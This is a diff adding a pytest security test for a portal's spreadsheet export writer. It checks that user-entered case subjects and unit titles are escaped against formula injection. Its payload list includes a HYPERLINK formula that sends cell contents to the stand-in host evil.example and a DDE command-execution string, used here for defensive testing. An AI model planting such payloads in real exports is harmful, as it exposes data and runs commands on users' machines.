@@ -1,0 +1,68 @@
+"""Attack class: formula injection into spreadsheets (issue 12, item 11).
+
+Case subjects, unit titles, risk and major-event entries are typed by users; every xlsx and
+CSV export goes through one writer (``portal.layout.export``) that writes them as text and
+prefixes a leading ``= + - @``, tab or CR with an apostrophe. Risk and event entries are
+checked in ``tests/reports/test_export_formula_injection.py`` (they need the reporting forms).
+"""
+from datetime import date
+
+import pytest
+from pyramid.traversal import find_resource
+
+from portal.layout.export import csv_bytes, restore_text, text, xlsx_bytes
+from portal.testing.web import login
+
+from tests.security.formula import csv_texts, xlsx_texts
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "　@x"]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_writer_never_writes_a_live_cell(payload):
+    rows = [[payload, 3, date(2026, 11, 26), True, None, "普通文字 = 不是公式"]]
+    texts = xlsx_texts(xlsx_bytes([("表", ["a", "b", "c", "d", "e", "f"], rows)]))
+    assert "'" + payload.replace("\r", "\n") in [t.replace("\r", "\n") for t in texts]
+    assert "2026-11-26" in texts and "是" in texts and "普通文字 = 不是公式" in texts
+    assert ("'" + payload) in csv_texts(csv_bytes(["a"], [[payload]]))
+    assert restore_text(text(payload)) == payload
+
+
+def test_characters_a_spreadsheet_cannot_hold_are_dropped():
+    assert xlsx_texts(xlsx_bytes([("表", ["a"], [["bell\x07char\x00"]])])) == ["a", "bellchar"]
+
+
+@pytest.fixture
+def planted(app, site_of):
+    """A case subject and a unit title that are formulas."""
+    from tests.public.seeding import PETITIONER, Seeder
+    path = Seeder(app)("/zhongyuan", PETITIONER, subject=PAYLOADS[0], received_on=date(2026, 11, 2))
+    with site_of(app, commit=True) as site:
+        find_resource(site, "/zhongyuan/s01").title = PAYLOADS[3]
+    return path
+
+
+def test_case_ledger_export(planted, testapp):
+    login(testapp, "zy_officer")
+    texts = xlsx_texts(testapp.get("/zhongyuan/@@cases-export").body)
+    assert "'" + PAYLOADS[0] in texts
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_org_tree_export_and_its_round_trip(planted, testapp, fmt):
+    login(testapp, "zy_head")
+    body = testapp.get("/zhongyuan/@@export-tree", {"format": fmt}).body
+    texts = (xlsx_texts if fmt == "xlsx" else csv_texts)(body)
+    assert "'" + PAYLOADS[3] in texts
+    from portal.orgtree.io import read_rows
+    rows = dict((r[1][1], r[1][2]) for r in read_rows(f"x.{fmt}", body))
+    assert rows["s01"] == PAYLOADS[3]  # importing our own export gives the title back
+
+
+def test_report_dashboards_export(planted, testapp):
+    login(testapp, "zy_officer")
+    assert "'" + PAYLOADS[3] in xlsx_texts(testapp.get("/zhongyuan/@@reports-export").body)
+    login(testapp, "city_officer")
+    xlsx_texts(testapp.get("/@@reports-units-export").body)
+    xlsx_texts(testapp.get("/@@major-events-export").body)
